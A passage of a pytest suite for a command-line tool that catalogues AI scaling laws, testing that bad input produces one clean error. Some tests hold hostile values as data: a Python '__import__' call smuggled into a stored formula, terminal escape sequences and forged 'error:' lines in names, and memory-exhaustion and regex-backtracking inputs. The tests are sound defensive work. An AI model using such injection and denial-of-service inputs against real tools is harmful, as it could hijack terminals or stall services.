    assert [l for l in result.stdout.splitlines() if l.strip().startswith("N = ")] == \
        [l for l in direct.stdout.splitlines() if l.strip().startswith("N = ")]


@pytest.mark.parametrize("title", ["a\x01b", "\x1b[2Jcleared", "a\u202eb"])
def test_a_plot_title_holding_a_control_character_is_one_error(catalog_db, tmp_path, title):
    # the SVG carried it into its XML, where a control character is not allowed: a file no viewer opens
    result = _strict("plot", "hoffmann2022", "--x", "N", "D=1T", "--title", title, "-o", str(tmp_path / "p.svg"),
                     "--db", catalog_db)
    _one_error_line(result, 2, "--title", "not allowed")
    assert "\x1b" not in result.output and not (tmp_path / "p.svg").exists()


@pytest.mark.parametrize("title", ["Scaling \U0001F680 laws, \u4e2d", "tab\there", "two\nlines"])
def test_a_plot_title_in_characters_the_font_lacks_is_drawn_without_warnings(catalog_db, tmp_path, title):
    """matplotlib's 'UserWarning: Glyph 128640 missing from font(s) DejaVu Sans' reached the terminal
    as a 'plotting.py:461:' line; record text (a symbol's meaning on an axis) may hold such characters too."""
    import xml.etree.ElementTree as ElementTree

    result = _strict("plot", "hoffmann2022", "--x", "N", "D=1T", "--title", title, "-o", str(tmp_path / "p.svg"),
                     "--db", catalog_db)
    assert result.exit_code == 0, result.output
    ElementTree.parse(tmp_path / "p.svg")


def test_the_middle_of_a_fitted_range_at_the_float_limits_is_a_number(tmp_path):
    """eval's hint is the middle of the input's domain: sqrt(1e300 * 1e308) and (-1.7e308 - 1e308) / 2
    overflowed, and the hint read 'e.g. N=inf', 'e.g. z_I=-inf'."""
    url = _edge_catalog(tmp_path, hoffmann2022=("1.0e300", "1.0e308"), kim2025=("-1.7e308", "-1.0e308"))
    hint = _strict("eval", "hoffmann2022", "D=1T", "--db", url)
    assert hint.exit_code != 0 and "e.g. N=1e+304" in hint.stderr, hint.output
    signed = _strict("eval", KIM, *KIM_AT_ZERO, "--db", url)
    assert signed.exit_code != 0 and "e.g. z_I=-1.35e+308" in signed.stderr, signed.output


def test_the_budgets_of_a_fitted_range_at_the_float_limits_are_finite(tmp_path):
    """optimal's power laws in C are fitted over the budgets of the fitted ranges, k * N * D: with N
    up to 1e308 the top budget was inf (numpy's 'invalid value encountered in multiply', then 'no
    interior compute-optimal N at C=inf' for a budget of 1e23 asked for)."""
    url = _edge_catalog(tmp_path, hoffmann2022=("1.0e300", "1.0e308"))
    result = _strict("optimal", "hoffmann2022", "--budget", "1e23", "--db", url)
    assert "inf" not in result.output.replace("infinit", ""), result.output
    assert result.exit_code == 0 or result.output.count("error") == 1, result.output


@pytest.mark.parametrize("url", [
    "postgresql+psycopg://u:p@ss:w0rd@localhost:5432/db",  # the port read as 'w0rd@localhost:5432': a traceback
    "postgresql+psycopg://u:p@ss@localhost:1/db",  # the host read as 'ss@localhost', printed by the driver's error
])
@pytest.mark.parametrize("args", [["load", str(FIXTURES / "valid")], ["show", "hoffmann2022"], ["search", "chinchilla"]])
def test_a_server_url_with_a_raw_at_sign_in_its_password_is_refused_unprinted(url, args):
    """A password holding an '@' or ':' not percent-encoded: SQLAlchemy reads the text after the first
    '@' as the host (and what follows a ':' there as the port), so the command printed a traceback
    (ValueError: invalid literal for int(): 'w0rd@localhost:5432') or the driver's 'failed to resolve
    host ss@localhost', part of the password either way. One usage error names the fix, no part of it."""
    result = _cli(*args, "--db", url)
    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
    assert "w0rd" not in result.output and "ss@" not in result.output, result.output
    assert "percent-encode" in result.output, result.output


def test_a_password_in_a_server_urls_query_is_masked():
    """libpq takes the password as a query parameter too (?password=...): the load's line printed it."""
    from catalog.store import db

    assert db.shown_url("postgresql+psycopg://u@host/db?password=s3cret&sslmode=require") == (
        "postgresql+psycopg://u@host/db?password=***&sslmode=require")
    assert db.shown_url("postgresql+psycopg://u:s3cret@host/db") == "postgresql+psycopg://u:***@host/db"


def test_the_typo_hint_of_undeclared_names_is_bounded():
    """validate names the declared symbol an undeclared one is likely a typo of (difflib, each name
    against every declared one): a law declaring 20,000 symbols whose formula names 150 others spent
    7 s of CPU on the hint alone (60 s at the 4 MB record limit). The hint looks up the first
    five names, against a law's worth of declared ones."""
    from catalog import records
    from catalog.engine import formulas

    declared = [f"alpha{i}" for i in range(40)]
    hint = records._declare_hint(formulas.Undeclared.of([f"alpha{i}x" for i in range(10)]), declared)
    assert hint.count(" for ") == 5, hint
    assert "'alpha4x' for 'alpha4'" in hint and "alpha5x" not in hint
    many = [f"s{i}" for i in range(records.MAX_HINTED_DECLARED + 1)]
    assert records._declare_hint(formulas.Undeclared.of(["s1x"]), many) == (
        " (declare it under symbols with its role and meaning, e.g. s1x: {role: parameter, meaning: ...})")


@pytest.mark.parametrize("via", ["file", "stdin"])
def test_a_bibtex_entry_that_is_not_utf8_is_one_error(tmp_path, via):
    # 'catalog new ID --bib FILE' on a Latin-1 .bib (title={Caf\xe9}) died in a UnicodeDecodeError
    # traceback; piped in, the terminal's surrogateescape let it through to the YAML writer's
    # UnicodeEncodeError traceback, with no record written
    from catalog.cli import cli

    entry = b"@article{x2024,\n title={Caf\xe9},\n year={2024}}\n"
    if via == "file":
        bib = tmp_path / "latin1.bib"
        bib.write_bytes(entry)
        result = CliRunner().invoke(cli, ["new", "x2024", "--dir", str(tmp_path), "--bib", str(bib)])
    else:
        result = CliRunner().invoke(cli, ["new", "x2024", "--dir", str(tmp_path)], input=entry)
    _one_error_line(result, 2, ":2: not UTF-8 text (byte 0xe9 at column 12)")
    assert not (tmp_path / "x2024.yaml").exists()


def test_a_runs_files_long_column_names_are_quoted_to_80_characters(tmp_path):
    # 'catalog fit LAW RUNS' quoted each column whole: a header cell of 100,000 characters (csv
    # reads up to 131,072) was echoed in full in the missing-columns error (twice with the rename
    # hint), and a cell in 'column ...: not a number' with its own whole value
    long = "y" * 100_000
    runs = tmp_path / "runs.csv"
    runs.write_text(f"N ({long}),tokens,L\n1e9,1e10,3.0\n", encoding="utf-8")
    result = _cli("fit", "hoffmann2022", str(runs))
    _one_error_line(result, 2, "(100,004 characters)", "rename N (")
    assert len(result.output) < 2000, len(result.output)
    runs.write_text(f"N,D,L,{long}\n1e9,1e10,3.0,{long}\n", encoding="utf-8")
    result = _cli("fit", "hoffmann2022", str(runs))
    _one_error_line(result, 2, "(100,000 characters)", "not a number")
    assert len(result.output) < 2000, len(result.output)


@pytest.mark.parametrize("expression, why", [
    ("N <= __import__('os').getpid()", "call of"),
    ("N <= Q", "Q"),
    ("N <= L", "L"),
    ("N <= D <= N", "one relation"),
    ("N <= D\n", "character '\\n' is not allowed in a formula"),  # as validation refuses it
    (5, "not a condition"),
])
@pytest.mark.parametrize("args", [["eval", "conditions", "N=1e9", "D=1e10"], ["optimal", "conditions", "C=1e20"]])
def test_a_stored_condition_no_record_may_hold_is_one_error(tmp_path, expression, why, args):
    # a --db no load wrote, whose law states a condition validation refuses (a call the guard
    # refuses, an undeclared name, the output): eval and optimal died in a FormulaError or
    # KeyError traceback (the schema alone, which such a record passes, does not guard conditions)
    import json

    url = f"sqlite:///{tmp_path / 'conditions.sqlite'}"
    db.load(records.load_valid([FIXTURES / "valid" / "conditions.yaml"]), url)
    with connection_to(tmp_path / "conditions.sqlite") as connection:
        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
        record["laws"][0]["conditions"] = [{"expression": expression, "source": "forged"}]
        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "laws[0].conditions[0]", why, "rebuild it with 'catalog load'")


def _drop_condition_source(record):
    del next(law for law in record["laws"] if law.get("conditions"))["conditions"][0]["source"]


def _drop(field, value=None):
    def change(record):
        record["laws"][0]["constant_sets"][0][field] = value
    return change


_UNCITED = {  # a --db no load wrote, whose law lacks a citation the schema requires
    "condition source": ("muennighoff2023", "muennighoff2023/data-constrained-loss-nd", _drop_condition_source,
                         "laws[1].conditions[0].source: missing"),
    "primary locator": ("hoffmann2022", "hoffmann2022", _drop("locator"), "laws[0].constant_sets[0].locator: missing"),
    "set source": ("hoffmann2022", "hoffmann2022", _drop("source", ""), "laws[0].constant_sets[0].source: missing"),
    "provenance": ("hoffmann2022", "hoffmann2022", _drop("provenance", "hearsay"),
                   "laws[0].constant_sets[0].provenance: not one of paper, code"),
}


@pytest.mark.parametrize("case", sorted(_UNCITED))
def test_a_stored_law_without_its_citation_is_refused_alike_by_every_command(catalog_db, tmp_path, case):
    # show refused a condition with no source (it prints the source, and failed on it), while eval,
    # solve, optimal and predict evaluated the law as if cited; none refused a paper set with no
    # locator. Every command reading the law now refuses it with one line, as the API does.
    import catalog
    from catalog.store.recordview import InvalidRecord

    paper, ref, change, where = _UNCITED[case]
    url = _with_record(catalog_db, tmp_path, paper, change)
    points = {"muennighoff2023": ["N=1B", "D=1e10", "U=1e9"], "hoffmann2022": ["N=1B", "D=1e10"]}[paper]
    for args in (["eval", ref, *points], ["show", paper], ["sweep", ref, *points], ["solve", ref, *points[:-1], "L=3"],
                 ["optimal", ref, "C=1e21", *points[2:]], ["predict", "N=1B", "D=1e10", "--where", f"id={paper}"],
                 ["audit", ref], ["checklist", ref], ["bib", paper]):
        _one_error_line(_cli(*args, "--db", url), 1, f"the database's record '{paper}': {where}", "catalog load")
    field = where.split(":")[0].rsplit(".", 1)[1]  # the API validates with the schema, which words it its own way
    with catalog.open(url) as cat, \
            pytest.raises(InvalidRecord, match=rf"the database's record '{paper}': laws\.\d\..*{field}"):
        cat.law(ref)(**dict(p.split("=") for p in points))


@pytest.mark.parametrize("args", [["show", "conditions"], ["eval", "conditions", "N=1e9", "D=1e10"]])
def test_a_stored_tokenizer_with_a_line_break_is_one_error(tmp_path, args):
    # conventions.tokenizer is kept to one line by the schema (Line) but was missing from the
    # fields a --db record is checked for as one line: 'catalog show' printed a forged
    # 'error: ...' line under the tokenizer's label
    import json

    url = f"sqlite:///{tmp_path / 'conditions.sqlite'}"
    db.load(records.load_valid([FIXTURES / "valid" / "conditions.yaml"]), url)
    with connection_to(tmp_path / "conditions.sqlite") as connection:
        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
        record["laws"][0]["conventions"] = {"tokenizer": "GPT-2 BPE\nerror: forged line"}
        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "laws[0].conventions.tokenizer", "line break", "rebuild it with 'catalog load'")
    assert "forged line" not in result.output


def test_site_builds_summary_names_the_output_directory_on_one_line_without_escapes(tmp_path):
    # 'catalog site build -o DIR' / 'catalog build -o DIR' printed DIR as given in the 'built N
    # pages into DIR' line (the 'open DIR/index.html' line after it escaped it): an OSC sequence in
    # DIR retitled the terminal and a line break in it printed a forged 'error:' line
    from catalog.site.build import BuildReport

    summary = BuildReport(site_dir=tmp_path / "site\x1b]0;pwned\x07\nerror: forged").summary()
    assert "\x1b" not in summary and "\x07" not in summary and "\n" not in summary
    assert "site\\x1b]0;pwned\\x07\\nerror: forged" in summary


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
@pytest.mark.parametrize("via", ["--bib", "stdin"])
def test_a_bibtex_source_without_end_is_refused_in_bounded_memory(tmp_path, via):
    # 'catalog new ID --bib FILE' (or a pipe) read the whole source: --bib /dev/zero filled the
    # memory and ended in a MemoryError traceback
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (1536 * 2**20, 1536 * 2**20))

    args = [sys.executable, "-m", "catalog", "new", "zz2024", "--dir", str(tmp_path)]
    with open("/dev/zero", "rb") as zero:
        run = subprocess.run(args + (["--bib", "/dev/zero"] if via == "--bib" else []), stdin=zero,
                             capture_output=True, text=True, timeout=120, preexec_fn=limit,
                             cwd=Path(__file__).resolve().parents[1])
    assert run.returncode == 2 and "Traceback" not in run.stderr, run.stderr[-500:]
    assert "is longer than 64 MiB; a BibTeX entry is" in run.stderr, run.stderr[-500:]
    assert not (tmp_path / "zz2024.yaml").exists()


# Patterns with runs of '\s*' side by side (or tried from every space to the end) split a long run
# of spaces every way before failing: one cell of a runs file held fit for a minute, and a sweep
# range of '1..2' and 1,000 spaces before a letter for longer than anyone waits.
_SPACES = " " * 100_000


@pytest.mark.parametrize("case", ["cell", "header", "unit"])
def test_a_runs_file_of_long_runs_of_spaces_is_read_in_linear_time(tmp_path, case):
    from catalog.engine.formulas import time_limit

    path = tmp_path / "runs.csv"
    header, row = {"cell": ("N,D,L", f"1{_SPACES}x,1,1"), "header": (f"N{_SPACES}x,D,L", "1,1,1"),
                   "unit": (f"N{_SPACES}[x,D (tokens{_SPACES},L", "1,1,1")}[case]
    path.write_text(f"{header}\n{row}\n", encoding="utf-8")
    with time_limit(1):  # CPU seconds; a minute or more before
        if case == "cell":
            with pytest.raises(fit.FitError, match="not a number"):
                fit.read_runs(path)
            return
        runs = fit.read_runs(path)
        assert len(runs) == 3
        assert fit._without_unit(f"N{_SPACES}[x") is None and fit._without_unit(f"D (tokens{_SPACES}") is None
        assert fit._without_unit(f"N{_SPACES}[params]{_SPACES}") == "N"


def test_a_sweep_range_of_long_runs_of_spaces_is_refused_at_once():
    from catalog.engine import sweep
    from catalog.engine.evaluation import BadValue
    from catalog.engine.formulas import time_limit

    with time_limit(1):  # CPU seconds; 1,000 spaces took minutes
        for spec in (f"1..2{_SPACES}x", f"1{_SPACES}k{_SPACES}..2{_SPACES}:{_SPACES}5{_SPACES}x"):
            with pytest.raises(BadValue, match="is not a range"):
                sweep.parse_range("N", spec)
        assert len(sweep.parse_range("N", f"1 k{_SPACES}..{_SPACES}2 M : 5 {_SPACES} lin ")) == 5


def test_the_pages_fit_box_reads_long_runs_of_spaces_as_catalog_fit_does_in_linear_time():
    """The site's twins (slc.js parseMagnitude, slc-fit.js withoutUnit) of the readers above: the
    same answers, and a pasted cell or header of spaces no longer holds the page."""
    import json
    import math
    import shutil

    from catalog import paths
    from catalog.engine import ranges

    if shutil.which("node") is None:
        pytest.skip("node is not installed")
    assets = paths.site_sources() / "docs" / "assets"
    slc, slc_fit = ((assets / name).read_text(encoding="utf-8") for name in ("slc.js", "slc-fit.js"))

    def block(source: str, start: str, end: str) -> str:
        begin = source.index(start)
        return source[begin:source.index(end, begin) + len(end)]

    code = "\n".join([block(slc, "  var SUFFIX = ", ";\n"), block(slc, "  var MAGNITUDE = ", ";\n"),
                      block(slc, "  function parseMagnitude(", "\n  }\n"), block(slc_fit, "  var UNIT_SUFFIX = ", ";\n"),
                      block(slc_fit, "  function withoutUnit(", "\n  }\n")])
    long = " " * 20_000
    cells = ["70B", " 1.4 t ", "1e3", "7_0", f"1{long}x", f"1{long}k{long}", "x"]
    headers = ["N [params]", "D (tokens) ", "N", f"N{long}[x", f"a{long}b", f"N{long}[p]{long}"]
    script = code + f"""
      var t = process.cpuUsage();
      var out = [{json.dumps(cells)}.map(parseMagnitude).map(function (v) {{ return isNaN(v) ? null : v; }}),
                 {json.dumps(headers)}.map(withoutUnit)], used = process.cpuUsage(t);
      console.log(JSON.stringify([out, (used.user + used.system) / 1e6]));"""
    run = subprocess.run(["node", "-"], input=script, capture_output=True, text=True, timeout=120, check=True)
    (magnitudes, names), seconds = json.loads(run.stdout)
    expected = []
    for cell in cells:
        try:
            expected.append(ranges.parse_magnitude(cell))
        except ValueError:
            expected.append(None)
    assert magnitudes == expected and not any(isinstance(v, float) and math.isnan(v) for v in magnitudes)
    assert names == [fit._without_unit(h) for h in headers]
    assert seconds < 0.2, seconds


@pytest.mark.parametrize("args", [["search", "--year", f"{' ' * 2000}x"], ["table", "--where", f"year={' ' * 2000}x"]])
def test_a_filter_of_long_runs_of_spaces_is_one_error_at_once(catalog_db, args):
    # --year's pattern had four runs of '\s*' side by side: 2,000 spaces before a letter held the
    # command for good
    from catalog.engine.formulas import time_limit

    with time_limit(2):  # CPU seconds, the command's own work included
        result = _cli(*args, "--db", catalog_db)
    _one_error_line(result, 2)


def test_eval_with_every_set_of_thousands_runs_in_linear_time():
    """eval --all-sets evaluates a law under each of its sets (sweep.compare), then compared the
    conventions of every pair of evaluations, though all are of one law: 64 million steps for a
    law of 8,000 sets (a 4 MB record holds some 17,000), quadratic."""
    from catalog.engine import sweep
    from catalog.engine.formulas import time_limit
    from catalog.store.lawstore import LawRef

    paper, issues = records.load_file(FIXTURES / "valid" / "minimal.yaml")
    assert not issues
    law = paper.laws[0]
    fit_set = law.constant_sets[0]
    law.constant_sets = [fit_set, *(fit_set.model_copy(update={"id": f"fit{i}"}) for i in range(8000))]
    target = LawRef(paper, law)
    with time_limit(3.5):  # CPU seconds; 4.5 before, 2 after
        results = sweep.compare([(target, cs.id) for cs in law.constant_sets], {"N": "1e8"})
    assert len(results) == 8001 and results[-1].constants.set_id == "fit7999"
    assert not any("conventions" in w for ev in results for w in ev.warnings)


def test_a_record_of_thousands_of_check_values_is_validated_in_linear_time(tmp_path):
    """Each check value is evaluated (records.check_value_issues), and each evaluation looked for
    the values the source prints at its point among all the law's check values, a note no check
    reads: a record of 2,000 check values took 25 s of CPU to validate, 4,000 over a minute
    (quadratic; a 4 MB record holds some 14,000)."""
    import yaml

    from catalog.engine.formulas import time_limit

    record = yaml.safe_load((FIXTURES / "valid" / "minimal.yaml").read_text(encoding="utf-8"))
    record["id"] = "manychecks"
    law = record["laws"][0]
    law["check_values"] = [{"inputs": {"N": n}, "expected": {"L": 1.5 + 4.0e2 / n ** 0.3}, "rel_tol": 1e-6,
                            "origin": "printed", "locator": "Table 2", "source": "s"}
                           for n in (1.0e6 + 1000 * i for i in range(3000))]
    path = tmp_path / "manychecks.yaml"
    path.write_text(yaml.safe_dump(record, sort_keys=False), encoding="utf-8")
    paper, issues = records.load_file(path)
    assert not issues and len(paper.laws[0].check_values) == 3000
    with time_limit(3):  # CPU seconds; a minute and more before
        assert records.check_value_issues([paper], [path]) == []
    law = paper.laws[0]  # eval still says what the source prints there
    from catalog.engine import evaluation as engine

    notes = engine.evaluate(law, {"N": 1.0e6 + 1000}).notes
    assert any(n.startswith("printed in the source (Table 2): L = ") for n in notes), notes


def _rows_forged(catalog_db, tmp_path, kind: str) -> str:
    """A copy of the catalog whose papers table holds hoffmann2022 twice (the second row's title
    forged; the table rebuilt without its key) or whose hoffmann2022 row holds kaplan2020's record."""
    import json
    import shutil

    path = tmp_path / f"{kind}.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        if kind == "twice":
            record = json.loads(connection.execute("SELECT record_json FROM papers WHERE id = 'hoffmann2022'").fetchone()[0])
            record["bibliography"]["title"] = "FORGED"
            connection.execute("CREATE TABLE copied AS SELECT * FROM papers")
            connection.execute("DROP TABLE papers")
            connection.execute("ALTER TABLE copied RENAME TO papers")
            connection.execute("INSERT INTO papers SELECT * FROM papers WHERE id = 'hoffmann2022'")
            connection.execute("UPDATE papers SET record_json = ? WHERE rowid = (SELECT max(rowid) FROM papers)",
                               (json.dumps(record),))
        else:
            connection.execute("UPDATE papers SET record_json = (SELECT record_json FROM papers WHERE id = 'kaplan2020') "
                               "WHERE id = 'hoffmann2022'")
    return f"sqlite:///{path}"


FORGED_ROWS = {"twice": "the database's record 'hoffmann2022': the database holds it in more than one row",
               "another": "the database's record 'hoffmann2022': id: its row is 'hoffmann2022' but its record says "
                          "'kaplan2020'"}


@pytest.mark.parametrize("kind", list(FORGED_ROWS))
@pytest.mark.parametrize("args", [["show", "hoffmann2022"], ["show", "chinchilla"], ["eval", "hoffmann2022", "N=70B", "D=1.4T"],
                                  ["bib", "hoffmann2022"], ["table", "2"]])
def test_a_paper_held_in_two_rows_or_under_another_id_is_one_error(catalog_db, tmp_path, kind, args):
    """A load writes each paper once, under its record's id. A database holding hoffmann2022 in two
    rows answered 'show' and the session with the first and 'bib' with the forged second; one whose
    hoffmann2022 row held kaplan2020's record answered 'show hoffmann2022' with kaplan2020, while
    the whole catalog's reading (by the records' ids) held no hoffmann2022 at all."""
    url = _rows_forged(catalog_db, tmp_path, kind)
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, FORGED_ROWS[kind], "rebuild it with 'catalog load'")
    assert "FORGED" not in result.output


@pytest.mark.parametrize("args", [["search", "--year", "2022"], ["search", "--year", "2022", "--limit", "1"],
                                  ["search", "-v", "compute", "--laws", "--format", "json"], ["search", "chinchilla"],
                                  ["stats"], ["stats", "--all", "--format", "csv"]])
def test_search_and_stats_refuse_a_paper_held_in_two_rows(catalog_db, tmp_path, args):
    """search listed hoffmann2022 once with the forged row's title and counted it twice (--year 2022
    said one more match; its --limit page counted it whatever the page); stats counted 54 survey
    papers of 53. Both read the papers table's columns, not the records: the table is checked to
    hold each paper once, as every other command's read of the paper does."""
    url = _rows_forged(catalog_db, tmp_path, "twice")
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, FORGED_ROWS["twice"], "rebuild it with 'catalog load'")
    assert "FORGED" not in result.output


@pytest.mark.parametrize("args", [["search", "--year", "2020"], ["stats"]])
def test_search_and_stats_refuse_a_paper_row_without_an_id(catalog_db, tmp_path, args):
    # a papers table without its key, holding a row whose id is NULL: search died in a KeyError
    # traceback (None) and stats counted the row as a survey paper (54 of 53)
    import shutil

    path = tmp_path / "unnamed.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        connection.execute("CREATE TABLE copied AS SELECT * FROM papers")
        connection.execute("DROP TABLE papers")
        connection.execute("ALTER TABLE copied RENAME TO papers")
        connection.execute("INSERT INTO papers SELECT * FROM papers WHERE id = 'kaplan2020'")
        connection.execute("UPDATE papers SET id = NULL WHERE rowid = (SELECT max(rowid) FROM papers)")
    connection.close()
    result = _cli(*args, "--db", f"sqlite:///{path}")
    _one_error_line(result, 1, "the database holds a paper row without an id", "rebuild it with 'catalog load'")


def test_the_python_search_refuses_a_paper_held_in_two_rows(catalog_db, tmp_path):
    import catalog
    from catalog.store.recordview import InvalidRecord

    with catalog.open(_rows_forged(catalog_db, tmp_path, "twice")) as cat, \
            pytest.raises(InvalidRecord, match=FORGED_ROWS["twice"]):
        cat.search(year=2022)


@pytest.mark.parametrize("kind", list(FORGED_ROWS))
def test_the_session_refuses_a_paper_held_in_two_rows_or_under_another_id(catalog_db, tmp_path, kind):
    import catalog
    from catalog.store.recordview import InvalidRecord

    url = _rows_forged(catalog_db, tmp_path, kind)
    for whole_first in (False, True):  # the law read alone, or after every record
        with catalog.open(url) as cat, pytest.raises(InvalidRecord, match=FORGED_ROWS[kind]):
            if whole_first:
                cat.store.papers
            cat.law("hoffmann2022")
    with catalog.open(url) as cat:
        assert cat.law("besiroglu2024").paper.id == "besiroglu2024"  # another paper reads alone


@pytest.mark.parametrize("kind", ["missing", "directory", "fifo", "device"])
def test_every_command_reading_the_database_says_when_there_is_none(tmp_path, kind):
    """audit and checklist died in a FileNotFoundError traceback where every other command said
    'error: no catalog database at ...; write one with catalog load' (exit 2). A --db naming a FIFO
    held every command forever (SQLite's open waits for a writer), and a directory was 'disk I/O
    error': no file a database may be is one error too."""
    from catalog.cli import cli

    args = {"audit": [], "checklist": ["hoffmann2022"], "show": ["hoffmann2022"], "bib": ["hoffmann2022"],
            "search": ["moe"], "table": ["2"], "corrections": ["hoffmann2022"], "repro": [], "stats": [],
            "predict": ["N=70B", "D=1.4T"], "eval": ["hoffmann2022", "N=70B", "D=1.4T"],
            "sweep": ["hoffmann2022", "N=1e9..1e10:3", "D=1e11"], "solve": ["hoffmann2022", "L=2", "--for", "N", "D=1e11"],
            "optimal": ["hoffmann2022", "C=1e21"], "cite": ["hoffmann2022"]}
    with_db = sorted(name for name, command in cli.every_command().items()
                     if any(p.name == "db_url" for p in command.params) and name not in ("load", "build", "site", "fit", "plot", "vocab"))
    assert set(with_db) <= set(args), set(with_db) - set(args)
    target = {"missing": tmp_path / "none" / "catalog.sqlite", "directory": tmp_path, "fifo": tmp_path / "fifo",
              "device": Path("/dev/null")}[kind]
    if kind == "fifo":
        os.mkfifo(target)
    said = "no catalog database at" if kind == "missing" else "is no regular file (a FIFO, a device or a directory)"
    for name in with_db:
        if kind == "fifo":  # in a process of its own, under a time limit: the command waited forever
            out = subprocess.run([sys.executable, "-m", "catalog", name, *args[name], "--db", f"sqlite:///{target}"],
                                 capture_output=True, text=True, timeout=60, cwd=Path(__file__).resolve().parent.parent)
            shown = " ".join((out.stderr + out.stdout).split())  # wrapped at the terminal's width
            assert out.returncode == 2 and said in shown and "Traceback" not in out.stderr, (name, out)
            continue
        result = _cli(name, *args[name], "--db", f"sqlite:///{target}")
        assert isinstance(result.exception, SystemExit) and result.exit_code == 2, (name, result.output[-500:])
        assert said in " ".join(result.output.split()) and "Traceback" not in result.output, (name, result.output[-500:])

def test_a_database_value_is_printed_as_text_never_as_rich_markup_or_emoji(catalog_db, tmp_path):
    """catalog stats drew the database's facet values (and its own headers) as rich markup: a --db
    holding '[red]moe[/red] :smile:' printed 'moe 😄', coloured. Every cell is Text now."""
    import shutil

    path = tmp_path / "markup.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        connection.execute("UPDATE paper_facets SET value = '[red]moe[/red] :smile:' "
                           "WHERE paper_id = 'hoffmann2022' AND kind = 'architecture'")
    connection.close()
    result = _cli("stats", "--db", f"sqlite:///{path}")
    assert result.exit_code == 0, result.output
    assert "[red]moe[/red] :smile:" in result.output and "😄" not in result.output


@pytest.mark.parametrize("args, option, value", [
    (["search", "scaling", "--limit", "١٢"], "--limit", "١٢"),
    (["table", "٧"], "[NUMBER]", "٧"),
    (["plot", "hoffmann2022", "--x", "N", "--fix", "D=2T", "--points", "١٠"], "--points", "١٠"),
    (["fit", "hoffmann2022", "--restarts", "٣"], "--restarts", "٣"),
    (["fit", "hoffmann2022", "--bootstrap", "²"], "--bootstrap", "²"),
    (["fit", "hoffmann2022", "--delta", "١e-3"], "--delta", "١e-3"),
    (["site", "serve", "--port", "٨٠٠٠"], "--port' / '-p", "٨٠٠٠")])
def test_a_number_option_takes_the_digits_a_value_takes(args, option, value, tmp_path, monkeypatch):
    """click's int and float options read any Unicode digits ('search --limit ١٢' showed 12
    rows), where N=١٢ or --samples ١٠٠ is 'not a number': every number option
    now reads the one grammar of a typed number (ASCII digits, underscores between them)."""
    monkeypatch.chdir(tmp_path)  # what a command taking the number writes (plot.png)
    result = _cli(*args)
    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
    assert f"Invalid value for '{option}': {value!r} is not a number (digits 0-9, as NAME=VALUE values are written)" \
           in result.output, result.output


def test_every_number_option_reads_typed_digits():
    """No option or argument of the CLI takes click's own int or float (each would read Unicode digits)."""
    import click

    from catalog.cli import cli
    from catalog.cli.arguments import _Typed

    def commands(group, path=()):
        for name, command in group.commands.items():
            yield (*path, name), command
            if isinstance(command, click.Group):
                yield from commands(command, (*path, name))

    numeric = (click.types.IntParamType, click.types.FloatParamType)
    plain = [(path, p.name) for path, command in commands(cli) for p in command.params
             if isinstance(p.type, numeric) and not isinstance(p.type, _Typed)]
    assert not plain
    assert _cli("search", "scaling", "--limit", "1_0", "--format", "json").exit_code == 0


@pytest.mark.parametrize("args, said", [
    (["sweep", "hoffmann2022", "N=1B..10B:٣", "D=2T"], "error: N: '1B..10B:٣' is not a range"),
    (["sweep", "hoffmann2022", "N=1B..10B:3", "D=٢٠N"], "character '٢' (U+0662) is not allowed; formulas are ASCII"),
    (["eval", "hoffmann2022", "N=7B", "D=٢٠N"], "character '٢' (U+0662) is not allowed; formulas are ASCII"),
    (["table", "--columns", "paper,year", "--where", "year>=٢٠٢٥"], "error: year>= takes a year, not '٢٠٢٥'"),
    (["table", "--columns", "paper,year", "--where", "year=٢٠٢٥"], "year takes a year or a range such as 2020-2022"),
    (["search", "--year", "٢٠٢٤"], "year takes a year or a range such as 2020-2022")])
def test_a_typed_count_relation_or_year_takes_ascii_digits(catalog_db, args, said):
    """A sweep's count (N=1B..10B:٣ drew 3 points), a relation's factor (D=٢٠N was D=20N) and a
    year (--year ٢٠٢٤, year>=٢٠٢٥) read Unicode digits, where N=٢٠B is 'not a number'."""
    result = _cli(*args, "--db", catalog_db)
    assert result.exit_code != 0 and "Traceback" not in result.output, result.output
    assert said in result.output, result.output
